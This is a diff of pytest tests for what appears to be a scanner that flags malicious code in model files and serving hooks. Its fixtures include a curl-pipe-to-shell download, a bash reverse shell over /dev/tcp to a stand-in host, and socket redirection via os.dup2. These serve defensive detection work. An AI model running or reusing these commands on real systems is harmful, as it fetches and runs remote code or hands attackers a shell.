@@ -175,6 +175,24 @@ def test_ordinary_uses_of_the_same_words_are_quiet(source: str) -> None:
     assert actions(source) == set()
 
 
+@pytest.mark.parametrize("name", ["generate", "_load_pyfunc", "model_fn", "handle", "init"])
+def test_functions_that_serving_systems_call_run_while_loading(name: str) -> None:
+    assert ("process", "load") in actions(f"import os\ndef {name}(*a):\n  os.system('id')")
+
+
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import os\ndef f(): os.system('curl http://198.51.100.7/x | sh')",
+        "import subprocess\ndef f(): subprocess.run(['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4 0>&1'])",
+        "import os\ndef f(s): os.dup2(s.fileno(), 0)",
+    ],
+)
+def test_a_command_no_model_needs_counts_whenever_it_runs(source: str) -> None:
+    assert ("script-attack", "call") in actions(source)
+    assert scan_blob(BytesReader(source.encode()), "x.py").report.verdict is Verdict.SUSPICIOUS
+
+
 def test_a_path_file_is_read_for_the_lines_that_python_executes() -> None:
     source = b"/opt/models\nimport os; os.system('id')\n"
     assert python_source.matches(blob_of(source, "evil.pth"))
